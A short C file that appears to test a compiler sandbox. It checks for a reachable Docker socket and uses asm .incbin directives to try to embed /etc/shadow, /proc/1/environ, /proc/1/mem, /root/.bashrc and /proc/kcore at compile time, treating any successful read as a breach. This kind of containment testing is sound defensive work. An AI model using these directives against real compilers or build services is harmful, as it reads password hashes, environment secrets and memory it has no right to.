// What the compiler may read is what the program may read. None of these is there for either.
// Each that opens would add its text to the errors, each that does not is one.
#ifdef __has_include
#if __has_include("/var/run/docker.sock") || __has_include("/run/docker.sock")
#error BREACH: the socket of the engine
#endif
#endif
asm(".incbin \"/etc/shadow\"");
asm(".incbin \"/proc/1/environ\"");
asm(".incbin \"/proc/1/mem\"");
asm(".incbin \"/root/.bashrc\"");
asm(".incbin \"/proc/self/fd/9\"");
asm(".incbin \"/proc/kcore\"");
int main() {}
